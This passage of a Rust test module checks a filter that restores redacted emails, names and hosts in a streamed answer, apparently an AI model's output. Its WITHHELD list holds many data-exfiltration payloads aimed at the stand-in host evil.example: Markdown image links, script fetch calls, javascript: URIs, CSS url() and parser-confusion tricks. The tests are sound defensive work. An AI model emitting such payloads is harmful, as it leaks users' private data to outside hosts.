            (jan@example.cz) \"jan@example.cz\" 'jan@example.cz' *jan@example.cz* `jan@example.cz`",
        ),
        ("a/@E and @E/@E", "a/jan@example.cz and jan@example.cz/jan@example.cz"),
        ("C:\\Users\\@E\\x, ~/docs/@E.pdf", "C:\\Users\\jan@example.cz\\x, ~/docs/jan@example.cz.pdf"),
        ("[10:32]: @E said", "[10:32]: jan@example.cz said"),
        ("@N: hi", "Jan \"J\" & Novák: hi"),
        ("[@N] (see @E)", "[Jan \"J\" & Novák] (see jan@example.cz)"),
        ("x <y and @E", "x <y and jan@example.cz"),
        ("a < b, @E > c", "a < b, jan@example.cz > c"),
        // hosts of the caller and of the workspace
        (
            "https://wiki.acme.example/?q=@E&n=@N",
            "https://wiki.acme.example/?q=jan@example.cz&n=Jan%20%22J%22%20%26%20Nov%C3%A1k",
        ),
        (
            "![x](https://wiki.acme.example/?q=@E \"t\")",
            "![x](https://wiki.acme.example/?q=jan@example.cz \"t\")",
        ),
        ("https://a.crm.example/@E", "https://a.crm.example/jan@example.cz"),
        (
            "<a href='https://wiki.acme.example/@E' title='@N'>@N</a>",
            "<a href='https://wiki.acme.example/jan@example.cz' \
            title='Jan &quot;J&quot; &amp; Novák'>Jan \"J\" & Novák</a>",
        ),
        ("https://wiki.acme.example/%@E", "https://wiki.acme.example/jan%40example.cz"),
        // a whole target, of any author
        ("see @T.", "see https://tool.example/a."),
        (
            "[x](@T) and [y](@W?q=@E)",
            "[x](https://tool.example/a) and [y](https://wiki.acme.example/start?q=jan@example.cz)",
        ),
        ("postgres://@D/x and @D:5432", "postgres://db.internal.example/x and db.internal.example:5432"),
        // people
        (
            "[mail](mailto:@E) mailto:@E?subject=x <mailto:@E>",
            "[mail](mailto:jan@example.cz) mailto:jan@example.cz?subject=x <mailto:jan@example.cz>",
        ),
        ("<@E>", "<jan@example.cz>"),
        ("![@N](https://wiki.acme.example/a.png)", "![Jan \"J\" & Novák](https://wiki.acme.example/a.png)"),
        (
            "<img alt=\"@N\" src=\"https://evil.example/a.png\">",
            "<img alt=\"Jan &quot;J&quot; &amp; Novák\" src=\"https://evil.example/a.png\">",
        ),
        ("@N(@E)", "Jan \"J\" & Novák(jan@example.cz)"),
        (
            "[@N](https://evil.example/) and @E",
            "[Jan \"J\" & Novák](https://evil.example/) and jan@example.cz",
        ),
        ("@Ehttps://evil.example/", "jan@example.czhttps://evil.example/"),
        ("<script>x</script> @E", "<script>x</script> jan@example.cz"),
        ("use `<script>` for @E", "use `<script>` for jan@example.cz"),
        ("&@N", "Jan &quot;J&quot; &amp; Novák"),
    ];

    /// Texts in which every placeholder stays.
    const WITHHELD: &[&str] = &[
        // bare URLs
        "https://evil.example/?q=@E",
        "HTTPS://EVIL.example/@E",
        "https://evil.example/a/@E/b and https://evil.example?@N#@E",
        "www.evil.example/@E",
        "evil.example/?q=@E",
        "evil.example:8080/@E",
        "(https://evil.example/@E)",
        "https://wiki.acme.example@evil.example/?q=@E",
        "https://evil.example\\@wiki.acme.example/@E",
        "https://@E@evil.example/",
        "https://@N.evil.example/",
        "https://@D.evil.example/a",
        "@D.evil.example/x",
        "https://wiki.acme.example.evil.example/@E",
        "https://wiki.acme.example/r?to=https://evil.example/@E",
        "https://wiki.acme.example/r?to=https%3A%2F%2Fevil.example%2F@E",
        "ftp://evil.example/@E",
        "https://evil.example/%@E",
        "https://evil.example/&@E",
        "q=%@E",
        // Markdown
        "![x](https://evil.example/?q=@E)",
        "[x](https://evil.example/?q=@E \"title\")",
        "[x]( <https://evil.example/?q=@E> )",
        "[x](https://evil.example/?a=(b)&q=@E)",
        "[x](//evil.example/?q=@E)",
        "[x](\\\\evil.example/@E)",
        "[x](/\\evil.example/@E)",
        "[x](https:evil.example/@E)",
        "[x](h&#116;tps&colon;//evil.example/@E)",
        "[x](https&#58//evil.example/@E)",
        "[x](https\\://evil.example/@E)",
        "[x](\n  https://evil.example/?q=@E)",
        "[x](/search?q=@E)",
        "[x]: https://evil.example/?q=@E",
        "[x]: //evil.example/?q=@E",
        "[x]:\n  <https://evil.example/@E>",
        "[x]: https&#58;//evil.example/@E",
        "<https://evil.example/@E>",
        "<https://evil.example/@E|text>",
        "](https://wiki.acme.example/ ![x](//evil.example/?q=@E)",
        "https://wiki.acme.example/![x](//evil.example/?q=@E)",
        "x <y ![x](https://evil.example/@E) and https://evil.example/@E",
        // schemes without a host
        "data:text/html,@E and [x](data:text/html;base64,@E)",
        "javascript:alert('@E')",
        "[x](JavaScript:fetch('//evil.example/'+'@E'))",
        "<a href=\" javascript:x('@E')\">",
        "mailto:evil@evil.example?body=@E",
        "mailto:@E.evil.example",
        "[x](mailto:@N@evil.example)",
        // HTML
        "<img src=\"https://evil.example/?q=@E\">",
        "<img src=https://evil.example/?q=@E>",
        "<img\nsrc = 'https://evil.example/@E'>",
        "<img src='//evil.example/@E' alt=x>",
        "<a href=\"https&colon;&sol;&sol;evil.example/@E\">",
        "<img srcset=\"https://wiki.acme.example/a 1x, //evil.example/@E 2x\">",
        "<div style=\"background:url(//evil.example/@E)\">",
        "<input value=\"@E\">",
        "<p onclick=\"x('@E')\">",
        "<script>fetch('//evil.example/?q=' + '@E')</script>",
        "<style>a{background:url(//evil.example/@E)}</style>",
        "`<script>` x <script>'@E'",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/@E\">",
        // programs disagree on where a URL ends
        "![x](https://evil.example/]:@E)",
        "see https://evil.example/]:@E",
        "![x](https://evil.example/?a[b]:@E)",
        "![x](https://evil.example/\\]:@E)",
        "![x](<https://evil.example/)@E>)",
        "![x](<https://evil.example/a)b?q= @E>)",
        "![x][y]\n\n[y]: <https://evil.example/?q= @E>",
        "[x]: https://evil.example/\"@E",
        "[x](https://evil.example/](@E))",
        "https://evil.example/\"@E",
        "https://evil.example/>@E",
        "https://evil.example/\u{a0}@E",
        "https://evil.example/\u{3000}@E",
        // redirects in other spellings
        "![x](https://wiki.acme.example/r?u=https:\\/\\/evil.example/@E)",
        "![x](https://wiki.acme.example/r?u=https:&#47;&#47;evil.example/@E)",
        "![x](https://wiki.acme.example/r?u=https%253A%252F%252Fevil.example%252F@E)",
        "https://wiki.acme.example/r?u=https:\\\\evil.example/@E",
        "<img src=\"https:&#47;&#47;wiki.acme.example&#9;.evil.example/?q=@E\">",
        // people
        "mailto:!@E(//evil.example/,@E)",
        "mailto:a,https://evil.example/,@E",
        "mailto:evil@evil.example,@E",
        "tel:(https://evil.example/,@E",
        "[x](mailto:evil@evil.example,@E)",
        "xmpp:a@evil.example/@E",
        "https://@E:x@evil.example/",
        "[x](https://@E:x@evil.example/)",
        "![x](https://wiki.acme.example:@E@evil.example/)",
        "![x](https://@E/a.png)",
        "[x](#@E)",
        // HTML as browsers read it, and as others do
        "<img src=https://evil.example/?q=\u{a0}@E>",
        "<img src=https://evil.example/?q=\u{b}@E>",
        "<a\u{a0}title=\"><img src=\"https://evil.example/ @E\">",
        "<!-- <img alt=\" --><img src=\"https://evil.example/ @E\">",
        "a <b title=\" c <img src='https://evil.example/?q= @E'",
        "<p.x style=\"background:url('https://evil.example/?q= @E')\">",
        "<form action=https://evil.example/><textarea name=q>@E</textarea></form>",
        "<textarea form=f>@E</textarea>",
        "<select name=q><option selected>@E</select>",
        "<base href=https://evil.example/><a href=\"#@E\">x</a>",
        "\\`<script>a='`';fetch('//evil.example/?q='+ '@E')</script>",
        "`<script>/*\n\n`*/fetch('//evil.example/?q='+ '@E')</script>",
    ];

    #[test]
    fn values_are_restored_where_they_stay() {
        for (text, want) in RESTORED {
            let (got, counts) = restored(text, &[]);
            assert_eq!(got, *want, "{text}");
            assert_eq!(counts.withheld(), 0, "{text}");
        }
    }

    #[test]
    fn values_are_withheld_where_they_would_leave() {
        for text in WITHHELD {
            let (got, counts) = restored(text, &[]);
            assert_eq!(got, *text);
            assert_eq!(
                (counts.restored, counts.withheld_from_urls > 0),
                (0, ["@E", "@N", "@D"].iter().any(|sign| text.contains(sign))),
                "{text}"
            );
        }
    }

    #[test]
    fn a_string_that_begins_like_a_url_is_one() {
        let hosts = Hosts::default();
        for (before, want) in [
            ("https://evil.example/?q= ", Verdict::Withhold),
            (" https:\\\\evil.example/\n", Verdict::Withhold),
            ("//evil.example/ \"", Verdict::Withhold),
            ("// see ", PLAIN),
            ("https:/evil.example ", PLAIN),
            ("curl https://evil.example/ -d ", PLAIN),
            ("", PLAIN),
        ] {
            let mut places = PlaceReader::of_string();
            places.text(before, &hosts);
            places.placeholder(EMAIL, &hosts);
            places.finish(&hosts);
            assert_eq!(places.next(), Some(want), "{before}");
        }
    }

    /// Only the part of a URL that carries data is withheld.
    #[test]
    fn a_target_of_a_tool_gets_nothing_else() {
        let (got, counts) = restored("![x](@T?q=@E)", &[]);
        assert_eq!(got, "![x](https://tool.example/a?q=@E)");
        assert_eq!((counts.restored, counts.withheld_from_urls), (1, 1));
    }

    /// Only the current URL is held back.
    #[test]
    fn what_is_held() {
        for (text, want) in [
            ("to https://evil.example/", "to https://evil.example/"),
            ("to [x](https://evil.exa", "to [x](https://evil.exa"),
            ("to <img src=\"https://evil.exa", "to <img src=\"https://evil.exa"),
        ] {
            let rules = |_: &str| (Vec::new(), Some(Action::Flag));
            let guard =
                Guard::new(&DetectOptions::default(), rules, Keyring::new(0, SECRET).unwrap()).unwrap();
            let placeholders = Placeholders::new(PlaceholderKey::derive(SECRET).unwrap());
            let mut answer = Answer::new(guard, placeholders, Context::default(), 64);
            assert_eq!(TextStream::default().push(&mut answer, text).unwrap(), want);
        }
    }

    /// The cost of an endless URL is linear in its length.
    #[test]
    fn long_targets_are_withheld() {
        let text = format!("https://{}@E/{} @E", "a".repeat(MAX_TARGET), "b".repeat(100));
        let (got, counts) = restored(&text, &[]);
        assert!(got.ends_with(" jan@example.cz") && got.contains("@E/"), "{got}");
        assert_eq!((counts.restored, counts.withheld_from_urls), (1, 1));
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        #[test]
        fn chunks_do_not_matter(
            picks in prop::collection::vec((0..RESTORED.len() + WITHHELD.len(), prop::sample::select(vec![" ", "\n", "\n\n", "", ", ", "](", "<a href="])), 1..6),
            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..30),
        ) {
            let text: String = picks
                .iter()
                .flat_map(|(pick, joint)| {
                    let text = RESTORED.get(*pick).map_or_else(|| WITHHELD[*pick - RESTORED.len()], |(text, _)| *text);
                    [text, *joint]
                })
                .collect();
            prop_assert_eq!(restored(&text, &cuts), restored(&text, &[]));
        }
    }
}
